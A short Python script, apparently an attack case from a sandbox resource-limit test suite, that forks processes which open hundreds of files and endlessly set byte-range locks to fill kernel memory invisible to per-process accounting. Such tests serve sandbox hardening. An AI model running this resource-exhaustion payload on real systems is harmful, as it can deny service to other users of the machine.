"""Fills memory that no process shows: the kernel's records of file locks."""

import fcntl
import os
import struct

from attacker import tried

LIMITS = {"wall_time_s": 3.0, "cpu_time_s": 3.0}

tried("file locks")
lock = struct.Struct("hhqqi4x")
for _ in range(6):
    if os.fork() == 0:
        break
files = [os.open(f"locked{number}-{os.getpid()}", os.O_CREAT | os.O_RDWR) for number in range(100)]
place = 0
while True:
    place += 2
    for fd in files:
        fcntl.fcntl(fd, fcntl.F_SETLK, lock.pack(fcntl.F_WRLCK, 0, place, 1, 0))
